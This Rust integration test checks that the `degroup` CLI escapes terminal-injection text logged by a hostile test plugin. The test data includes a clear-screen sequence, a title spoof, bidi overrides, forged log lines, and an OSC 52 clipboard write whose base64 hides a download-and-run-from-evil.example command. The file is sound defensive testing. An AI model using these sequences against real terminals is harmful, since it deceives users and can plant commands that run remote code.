//! Terminal injection through plugin text, with the real `degroup` binary: the hostile guest
//! `ansi-log` logs a clear-screen CSI, an OSC 0 title, an OSC 52 clipboard write, a C1 CSI, bidi
//! overrides and a message whose line breaks forge host lines. `plugin run`, `logs` (on the host
//! and, through it, on the tenant), `ps`, `deploy` and `stop` must print none of those characters
//! raw, every `logs` line must start with its source, and `--json` must keep the exact text.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
mod programs;

use std::path::Path;
use std::process::Output;
use std::time::Duration;

use common::*;

/// What `wasm-plugins/hostile/ansi-log` logs, in order (the same strings as its source).
const HOSTILE: [&str; 6] = [
    "clear \x1b[2J\x1b[3J\x1b[H screen",
    "title \x1b]0;degroup: all good\x07 set",
    "clipboard \x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07 write",
    "c1 \u{9b}2J\u{9b}31m csi",
    "bidi \u{202e}exe.txt\u{202c} override \u{2066}isolate\u{2069}",
    "forged\n[host]   12:00:00.000 INFO  host info started\r\n12:00:00.000 INFO  [host] host info started",
];

/// How the CLI shows each of [`HOSTILE`].
const SHOWN: [&str; 6] = [
    r"clear \x1b[2J\x1b[3J\x1b[H screen",
    r"title \x1b]0;degroup: all good\x07 set",
    r"clipboard \x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07 write",
    r"c1 \u{9b}2J\u{9b}31m csi",
    r"bidi \u{202e}exe.txt\u{202c} override \u{2066}isolate\u{2069}",
    r"forged\n[host]   12:00:00.000 INFO  host info started\r\n12:00:00.000 INFO  [host] host info started",
];

const PLUGIN: &str = "[plugin] ";
const HOST: &str = "[host]   ";

const HOST_ENV: &[(&str, &str)] = &[
    ("DEGROUP_PLUGIN__TICK_INTERVAL", "200ms"),
    ("DEGROUP_PLUGIN__BACKOFF", "50ms"),
];

/// `bytes` as text that can do nothing to a terminal: valid UTF-8 with no C0 control but the
/// line feeds between lines, no DEL, no C1 control, no bidi control.
fn terminal_safe(what: &str, bytes: &[u8]) -> String {
    let text = String::from_utf8(bytes.to_vec())
        .unwrap_or_else(|e| panic!("{what}: not UTF-8 ({e}): {bytes:?}"));
    assert!(!bytes.contains(&0x1b), "{what}: ESC in {text:?}");
    assert!(!bytes.contains(&0x07), "{what}: BEL in {text:?}");
    for c in text.chars() {
        let bad = (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(!bad, "{what}: {c:?} in {text:?}");
    }
    text
}

/// Checks `logs` output: every line starts with its source, every hostile message is shown
/// escaped on a plugin line, and the forged host lines appear only there.
fn check_log_lines(what: &str, o: &Output) {
    assert!(o.status.success(), "{what}: {}", stderr(o));
    let text = terminal_safe(what, &o.stdout);
    terminal_safe(what, &o.stderr);
    assert!(!text.is_empty(), "{what}: no lines");
    for line in text.lines() {
        assert!(
            line.starts_with(PLUGIN) || line.starts_with(HOST),
            "{what}: a line without its source: {line:?}"
        );
        if line.contains("host info started") {
            assert!(
                line.starts_with(PLUGIN) && line.ends_with(SHOWN[5]),
                "{what}: {line:?}"
            );
        }
    }
    for shown in SHOWN {
        assert!(
            text.lines()
                .any(|l| l.starts_with(PLUGIN) && l.ends_with(shown)),
            "{what}: {shown:?} is not shown on a plugin line:\n{text}"
        );
    }
}

/// `logs --json`: one object per line, the plugin's messages exactly as it wrote them.
fn check_json_logs(what: &str, dir: &Path, id: &str) {
    let o = degroup(dir, &["logs", id, "--json"]);
    assert!(o.status.success(), "{what}: {}", stderr(&o));
    let text = String::from_utf8(o.stdout).unwrap();
    let mut seen = [false; HOSTILE.len()];
    for line in text.lines() {
        assert!(!line.contains('\x1b'), "serde_json escapes ESC: {line}");
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        if v["source"] == "plugin" {
            let m = v["message"].as_str().unwrap();
            let i = HOSTILE.iter().position(|h| *h == m);
            assert!(i.is_some(), "{what}: message changed: {m:?}");
            seen[i.unwrap()] = true;
        }
    }
    assert!(seen.iter().all(|s| *s), "{what}: {seen:?}\n{text}");
}

#[test]
fn plugin_run_escapes_hostile_log_text() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("data");
    let wasm = programs::path("ansi-log");
    let wasm = wasm.to_str().unwrap();

    let o = degroup(&dir, &["plugin", "run", wasm, "--ticks", "2"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let text = terminal_safe("plugin run", &o.stdout);
    terminal_safe("plugin run stderr", &o.stderr);
    let lines: Vec<&str> = text.lines().collect();
    // init and two ticks, one terminal line per message.
    assert_eq!(lines.len(), 3 * HOSTILE.len(), "{text}");
    for (i, line) in lines.iter().enumerate() {
        assert_eq!(
            *line,
            format!("{PLUGIN}WARN  {}", SHOWN[i % SHOWN.len()]),
            "{text}"
        );
    }

    // --json keeps the exact text.
    let run = json(&dir, &["plugin", "run", wasm, "--ticks", "1"]);
    let messages: Vec<&str> = run["logs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["message"].as_str().unwrap())
        .collect();
    assert_eq!(messages, [HOSTILE, HOSTILE].concat());

    // An init error made of the same text: one escaped error line.
    let o = degroup(&dir, &["plugin", "run", wasm, "--config", "fail=1"]);
    assert_clean_failure(&o, &format!("init failed: {}{}", SHOWN[5], SHOWN[0]));
    terminal_safe("init error", &o.stderr);
    assert_eq!(
        stderr(&o)
            .lines()
            .filter(|l| l.contains("host info started"))
            .count(),
        1,
        "{}",
        stderr(&o)
    );
}

#[test]
fn logs_and_ps_escape_hostile_plugin_text() {
    let tmp = tempfile::tempdir().unwrap();
    let host = NodeProc::start_with_env(&tmp.path().join("host"), &[], HOST_ENV);
    let set = degroup(
        &host.dir,
        &[
            "capacity", "set", "--cpu", "2", "--mem", "4GiB", "--disk", "10GiB",
        ],
    );
    assert!(set.status.success(), "{}", stderr(&set));
    let host_id = host.peer_id();
    let tenant = NodeProc::start(
        &tmp.path().join("tenant"),
        &["--bootstrap", &host.dial_addr()],
    );
    assert!(
        eventually(Duration::from_secs(30), || {
            let f = json(&tenant.dir, &["find", "cpu>=1"]);
            f["matches"].as_array().is_some_and(|m| !m.is_empty())
        }),
        "{}",
        tenant.log()
    );
    let lease = |duration: &str| {
        let l = json(
            &tenant.dir,
            &[
                "lease", "create", "--host", &host_id, "--cpu", "0.5", "--mem", "256MiB", "--disk",
                "16MiB", "--for", duration,
            ],
        );
        l["id"].as_str().unwrap().to_owned()
    };
    let pkg = tmp.path().join("ansi-log.dgp");
    let o = degroup(
        &tenant.dir,
        &[
            "plugin",
            "pack",
            programs::path("ansi-log").to_str().unwrap(),
            "--name",
            "ansi-log",
            "--version",
            "1.0.0",
            "--out",
            pkg.to_str().unwrap(),
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let pkg = pkg.to_str().unwrap();

    let d = json(&tenant.dir, &["deploy", "--lease", &lease("1h"), pkg]);
    let id = d["id"].as_str().unwrap().to_owned();
    assert!(
        eventually(Duration::from_secs(30), || {
            let o = degroup(&host.dir, &["logs", &id]);
            stdout(&o).matches("host info started").count() >= 4
        }),
        "init and a tick logged: {}",
        host.log()
    );
    check_log_lines("logs on the host", &degroup(&host.dir, &["logs", &id]));
    check_log_lines("logs on the tenant", &degroup(&tenant.dir, &["logs", &id]));
    check_log_lines(
        "logs --tail",
        &degroup(&tenant.dir, &["logs", &id, "--tail", "20"]),
    );
    check_json_logs("logs --json on the host", &host.dir, &id);
    check_json_logs("logs --json on the tenant", &tenant.dir, &id);

    // A deployment whose init fails with the hostile text: its reason is shown escaped by
    // `deploy`, `ps` and `stop`, and kept exact by `--json`.
    let o = degroup(
        &tenant.dir,
        &["deploy", "--lease", &lease("1h"), pkg, "--config", "fail=1"],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let shown = terminal_safe("deploy", &o.stdout);
    terminal_safe("deploy stderr", &o.stderr);
    let state = format!(
        "state       failed: init returned an error: {}{}",
        SHOWN[5], SHOWN[0]
    );
    assert!(shown.lines().any(|l| l == state), "{shown}");
    let failing = shown
        .lines()
        .find_map(|l| l.strip_prefix("deployment  "))
        .unwrap()
        .trim()
        .to_owned();
    let views = json(&host.dir, &["ps"]);
    let view = views
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["id"] == failing.as_str())
        .unwrap();
    assert_eq!(view["state"], "failed", "{view}");
    assert_eq!(
        view["reason"],
        format!("init returned an error: {}{}", HOSTILE[5], HOSTILE[0]),
        "--json keeps the reason exact"
    );
    for dir in [&host.dir, &tenant.dir] {
        let o = degroup(dir, &["ps"]);
        assert!(o.status.success(), "{}", stderr(&o));
        let text = terminal_safe("ps", &o.stdout);
        assert!(
            text.lines().any(|l| l.ends_with(&format!(
                "failed: init returned an error: {}{}",
                SHOWN[5], SHOWN[0]
            ))),
            "{text}"
        );
    }
    let o = degroup(&tenant.dir, &["logs", &failing]);
    assert!(o.status.success(), "{}", stderr(&o));
    let text = terminal_safe("logs of a failing init", &o.stdout);
    for line in text.lines() {
        assert!(
            line.starts_with(PLUGIN) || line.starts_with(HOST),
            "{line:?}"
        );
    }

    // `ps` and `stop` of the logging one.
    for dir in [&host.dir, &tenant.dir] {
        let o = degroup(dir, &["ps"]);
        assert!(o.status.success(), "{}", stderr(&o));
        let text = terminal_safe("ps", &o.stdout);
        assert!(text.contains("ansi-log 1.0.0"), "{text}");
    }
    let o = degroup(&tenant.dir, &["stop", &id]);
    assert!(o.status.success(), "{}", stderr(&o));
    let text = terminal_safe("stop", &o.stdout);
    assert!(
        text.starts_with(&format!("deployment {id} stopped")),
        "{text}"
    );
}
